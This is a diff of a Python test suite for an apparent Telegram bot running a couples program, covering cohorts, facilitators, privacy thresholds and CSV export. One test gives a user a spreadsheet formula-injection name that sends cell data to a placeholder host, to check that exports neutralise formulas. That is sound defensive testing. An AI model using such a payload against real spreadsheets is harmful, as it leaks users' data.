@@ -70,7 +70,7 @@ async def test_an_admin_makes_a_facilitator_with_a_single_use_link(box: Sandbox)
     # Single use: the same link does nothing for someone else.
     gus = box.fake.user(801, "Gus")
     await gus.open_link(link_in(admin))
-    assert gus.chat.last.text == texts.INVITE_USED
+    assert gus.chat.last.text == texts.FACILITATOR_LINK_USED
     await gus.send("/cohort_new")
     assert gus.chat.last.text == texts.FACILITATOR_ONLY
     await admin.send("/facilitators")
@@ -239,12 +239,13 @@ async def test_two_program_weeks_then_the_end(box: Sandbox) -> None:
         await box.advance(when - box.clock.now(), step=timedelta(hours=1))
         return texts_since(sam, before)
 
-    # Week 1 opens on Monday morning with the facilitator's message and the exercise.
-    seen = await until(datetime(2026, 3, 9, 9, 0, tzinfo=UTC))
-    week1 = program.week(0)
-    assert any(t.startswith(f"Week 1 of 6: {week1.theme}") for t in seen)
-    # Monday's round is the interdependence check, then the week's questions in order.
+    # Week 1 opens with the couple's first program round (Monday, at their own 20:00): the
+    # facilitator's message and the exercise, then the interdependence check.
+    seen = await until(datetime(2026, 3, 9, 18, 30, tzinfo=UTC))
+    assert not any(t.startswith("Week 1 of 6") for t in seen)
     seen = await until(datetime(2026, 3, 9, 19, 30, tzinfo=UTC))
+    week1 = program.week(0)
+    assert seen[0].startswith(f"Week 1 of 6: {week1.theme}")
     asked = [t for t in seen if " of 4 \u00b7 " in t]
     assert len(asked) == 4
     assert all(bank[q].text in "".join(asked) for q in program.check)
@@ -356,7 +357,8 @@ async def test_a_whole_program_for_six_couples(box: Sandbox) -> None:
     await fay.send("/cohorts")
     await fay.press(texts.BTN_STATUS)
     above = fay.chat.last.text
-    assert "Week 2, pooled over 5 couples" in above
+    assert "Week 2: differences by topic (only topics at least 5 couples answered)" in above
+    assert "across 5 couples" in above
     assert "A5 & B5: 0/" in above and texts.STATUS_FLAG in above.split("A5 & B5")[1]
     assert texts.STATUS_FLAG not in above.split("A5 & B5")[0]
 
@@ -367,7 +369,7 @@ async def test_a_whole_program_for_six_couples(box: Sandbox) -> None:
     assert rows[0] == ["kind", "week", "subject", "value", "value_2"]
     assert ["participation", "1", "A0 & B0", "2", "2"] in rows
     assert ["participation", "1", "A5 & B5", "0", "2"] in rows
-    weeks_with_figures = {r[1] for r in rows if r[0] in ("differences", "contributors")}
+    weeks_with_figures = {r[1] for r in rows if r[0] == "differences"}
     assert weeks_with_figures == {"2"}  # week 1 had fewer than K couples
 
     # A couple leaves; the facilitators see only that.
@@ -411,7 +413,7 @@ async def test_one_cohort_at_a_time_and_one_broadcast_at_a_time(box: Sandbox) ->
     await fay.press_data(cohort_one.message_id, "co:broadcast:1")
     assert fay.chat.last.text == texts.BROADCAST_BUSY
     await box.advance(timedelta(minutes=1), step=timedelta(seconds=30))
-    assert fay.chat.last.text.startswith("Broadcast to \u201cSpring group\u201d: delivered to 2")
+    assert fay.chat.last.text.startswith("Broadcast to \u201cSpring group\u201d: delivered: 2")
     await fay.press_data(cohort_one.message_id, "co:broadcast:1")
     assert fay.chat.last.text.startswith("Write the message")
 
@@ -472,3 +474,219 @@ async def test_the_interdependence_check_before_and_after_with_k_couples(
         assert document is not None
         rows = list(csv.reader(io.StringIO(document.decode("utf-8-sig"))))
         assert {r[2] for r in rows if r[0] == "check"} == set(program.check)
+
+
+# ---------------------------------------------------------------------------- review fixes
+
+
+async def enrol_couples(
+    box: Sandbox, link: str, count: int, first_id: int = 4001, zone: str = "Berlin"
+) -> list[tuple[FakeUser, FakeUser]]:
+    couples = []
+    for n in range(count):
+        a = box.fake.user(first_id + 2 * n, f"E{n}")
+        b = box.fake.user(first_id + 1 + 2 * n, f"F{n}")
+        await start_user(a, zone)
+        await start_user(b, zone)
+        await a.send("/pair")
+        await b.open_link(invite_link(a))
+        await b.press(texts.INVITE_ACCEPT)
+        await a.open_link(link)
+        await a.press(texts.BTN_JOIN)
+        await b.press(texts.BTN_JOIN)
+        couples.append((a, b))
+    return couples
+
+
+async def pass_everything(user: FakeUser, since: int) -> None:
+    """Keep every question since message ``since`` private."""
+    for message in list(user.chat.messages[since:]):
+        data = _answer_buttons(message)
+        if data and data[-1].endswith(":skip"):
+            await user.press_data(message.message_id, data[-1])
+
+
+async def test_a_figure_needs_k_couples_who_answered_it_not_counting_the_viewers_own(
+    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
+) -> None:
+    settings = {"admins": [ADMIN], "min_pairs": 3}
+    async with sandbox(db_url, clock=clock, fake=fake, picker=picker, **settings) as box:
+        fay = await make_facilitator(box, 800, "Fay")
+        gus = await make_facilitator(box, 801, "Gus")
+        link = await new_cohort(fay)
+        await fay.send("/cohorts")
+        await fay.press(texts.BTN_COFACILITATOR)
+        await gus.open_link(link_in(fay))
+        couples = await enrol_couples(box, link, 3)
+        marks = {u.user_id: len(u.chat.messages) for pair in couples for u in pair}
+        await box.advance(
+            datetime(2026, 3, 9, 19, 0, tzinfo=UTC) - box.clock.now(), step=timedelta(hours=1)
+        )
+        # Only the first couple answers the check; the others keep every answer private.
+        for index, (a, b) in enumerate(couples):
+            for user in (a, b):
+                mark = marks[user.user_id]
+                await (answer_everything if index == 0 else pass_everything)(user, mark)
+        await box.advance(datetime(2026, 3, 16, 9, 0, tzinfo=UTC) - box.clock.now())
+        await fay.send("/cohorts")
+        await fay.press(texts.BTN_STATUS)
+        status = fay.chat.last.text
+        assert texts.STATUS_AGGREGATES_HIDDEN.format(k=3) in status
+        assert "across" not in status and "\u2192" not in status.split("Couples who completed")[1]
+        await fay.press(texts.BTN_EXPORT)
+        assert fay.chat.last.document is not None
+        rows = list(csv.reader(io.StringIO(fay.chat.last.document.decode("utf-8-sig"))))
+        assert not [r for r in rows if r[0] in ("differences", "check")]
+        # Not because nobody was asked: all three couples had the check round.
+        assert len([r for r in rows if r[0] == "participation" and r[1] == "1"]) == 3
+
+
+async def test_the_viewers_own_couple_does_not_count_towards_k(
+    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
+) -> None:
+    settings = {"admins": [ADMIN], "min_pairs": 3}
+    async with sandbox(db_url, clock=clock, fake=fake, picker=picker, **settings) as box:
+        fay = await make_facilitator(box, 800, "Fay")
+        gus = await make_facilitator(box, 801, "Gus")
+        link = await new_cohort(fay)
+        await fay.send("/cohorts")
+        await fay.press(texts.BTN_COFACILITATOR)
+        await gus.open_link(link_in(fay))
+        # Fay takes part herself, with her partner, beside two other couples.
+        pat = box.fake.user(802, "Pat")
+        await start_user(pat, "Berlin")
+        await fay.send("/timezone Berlin")
+        await fay.send("/pair")
+        await pat.open_link(invite_link(fay))
+        await pat.press(texts.INVITE_ACCEPT)
+        await fay.open_link(link)
+        await fay.press(texts.BTN_JOIN)
+        await pat.press(texts.BTN_JOIN)
+        couples = [(fay, pat), *await enrol_couples(box, link, 2)]
+        marks = {u.user_id: len(u.chat.messages) for pair in couples for u in pair}
+        await box.advance(
+            datetime(2026, 3, 9, 19, 0, tzinfo=UTC) - box.clock.now(), step=timedelta(hours=1)
+        )
+        for a, b in couples:
+            for user in (a, b):
+                await answer_everything(user, marks[user.user_id])
+        await box.advance(datetime(2026, 3, 16, 9, 0, tzinfo=UTC) - box.clock.now())
+        for viewer in (fay, gus):
+            await viewer.send("/cohorts")
+            await viewer.press(texts.BTN_STATUS)
+        assert "across 3 couples" in gus.chat.last.text  # three couples besides Gus's own
+        assert "across" not in fay.chat.last.text  # for Fay, only two besides her own
+
+
+async def test_consent_from_an_earlier_pair_does_not_carry_over(box: Sandbox) -> None:
+    fay = await make_facilitator(box, 800, "Fay")
+    link = await new_cohort(fay)
+    alex, _sam = await make_pair(box)
+    await alex.open_link(link)
+    await alex.press(texts.BTN_JOIN)  # Sam never answers
+    await alex.send("/unpair")
+    await alex.press(texts.UNPAIR_YES)
+    eve = box.fake.user(1010, "Eve")
+    await start_user(eve, "Berlin")
+    await alex.send("/pair")
+    await eve.open_link(invite_link(alex))
+    await eve.press(texts.INVITE_ACCEPT)
+    await eve.open_link(link)
+    await eve.press(texts.BTN_JOIN)
+    assert eve.chat.last.text == texts.ENROL_WAITING.format(partner="Alex")
+    assert alex.chat.last.text.startswith(texts.ENROL_PARTNER_ASKED.format(name="Eve"))
+
+
+async def test_the_export_never_hands_a_spreadsheet_a_formula(box: Sandbox) -> None:
+    fay = await make_facilitator(box, 800, "Fay")
+    link = await new_cohort(fay)
+    mal = box.fake.user(1020, '=HYPERLINK("http://x.example/?"&A1,"x")')
+    kit = box.fake.user(1021, "Kit")
+    await start_user(mal, "Berlin")
+    await start_user(kit, "Berlin")
+    await mal.send("/pair")
+    await kit.open_link(invite_link(mal))
+    await kit.press(texts.INVITE_ACCEPT)
+    await mal.open_link(link)
+    await mal.press(texts.BTN_JOIN)
+    await kit.press(texts.BTN_JOIN)
+    await box.advance(
+        datetime(2026, 3, 16, 9, 0, tzinfo=UTC) - box.clock.now(), step=timedelta(hours=1)
+    )
+    await fay.send("/cohorts")
+    await fay.press(texts.BTN_EXPORT)
+    document = fay.chat.last.document
+    assert document is not None
+    rows = list(csv.reader(io.StringIO(document.decode("utf-8-sig"))))
+    names = [r[2] for r in rows if r[0] == "participation"]
+    assert names and all(not n.startswith(("=", "+", "-", "@")) for n in names)
+
+
+async def test_cancel_stops_a_cohort_set_up_and_drafts_are_their_authors(box: Sandbox) -> None:
+    fay = await make_facilitator(box, 800, "Fay")
+    await fay.send("/cohort_new")
+    await fay.send("Half done")
+    await fay.send("/cancel")
+    await fay.press("Close, not merged")
+    assert fay.chat.toasts[-1] == texts.COHORT_DRAFT_GONE
+    await fay.send("/cohorts")
+    assert fay.chat.last.text == texts.COHORTS_NONE
+
+    link = await new_cohort(fay)
+    await enrol_couples(box, link, 1)
+    gus = await make_facilitator(box, 801, "Gus")
+    await fay.send("/cohorts")
+    await fay.press(texts.BTN_COFACILITATOR)
+    await gus.open_link(link_in(fay))
+    await fay.send("/cohorts")
+    await fay.press(texts.BTN_BROADCAST)
+    await fay.send("Draft, not yet")
+    draft = fay.chat.last.buttons[0][0].callback_data
+    assert draft is not None
+    await gus.press_data(gus.chat.last.message_id, draft)
+    assert gus.chat.toasts[-1] == texts.BUTTON_NOT_YOURS
+    admin = box.fake.user(ADMIN, "Ada")
+    await admin.send("/cohorts")  # admins see every cohort
+    assert admin.chat.messages[-1].text.startswith("Spring group")
+
+
+async def test_weeks_missed_during_downtime_are_still_frozen(
+    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
+) -> None:
+    settings = {"admins": [ADMIN], "min_pairs": 3}
+    async with sandbox(db_url, clock=clock, fake=fake, picker=picker, **settings) as box:
+        fay = await make_facilitator(box, 800, "Fay")
+        link = await new_cohort(fay)
+        couples = await enrol_couples(box, link, 3)
+        marks = {u.user_id: len(u.chat.messages) for pair in couples for u in pair}
+        await box.advance(
+            datetime(2026, 3, 9, 19, 0, tzinfo=UTC) - box.clock.now(), step=timedelta(hours=1)
+        )
+        for a, b in couples:
+            for user in (a, b):
+                await answer_everything(user, marks[user.user_id])
+        box.clock.set(datetime(2026, 3, 24, 12, 0, tzinfo=UTC))  # down for two week boundaries
+        await box.tick()
+        await fay.send("/cohorts")
+        await fay.press(texts.BTN_EXPORT)
+        assert fay.chat.last.document is not None
+        rows = list(csv.reader(io.StringIO(fay.chat.last.document.decode("utf-8-sig"))))
+        assert {r[1] for r in rows if r[0] == "participation"} == {"1"}
+        assert [r for r in rows if r[0] == "differences" and r[1] == "1"]  # frozen, K couples
+
+
+async def test_a_couple_far_away_checks_in_on_the_program_days_of_its_own_calendar(
+    box: Sandbox,
+) -> None:
+    fay = await make_facilitator(box, 800, "Fay")
+    link = await new_cohort(fay)  # Berlin; Mondays and Wednesdays from Mon 9 Mar
+    (a, _b) = (await enrol_couples(box, link, 1, zone="New York"))[0]
+    before = len(a.chat.messages)
+    await box.advance(
+        datetime(2026, 3, 10, 4, 0, tzinfo=UTC) - box.clock.now(), step=timedelta(hours=1)
+    )
+    seen = texts_since(a, before)
+    days = [m for m in a.chat.messages[before:] if " of 4 \u00b7 " in m.text]
+    assert days, seen
+    # The check came on Monday 9 March at 20:00 New York time (00:00 UTC on the 10th).
+    assert all(m.date == int(datetime(2026, 3, 10, 0, 0, tzinfo=UTC).timestamp()) for m in days)
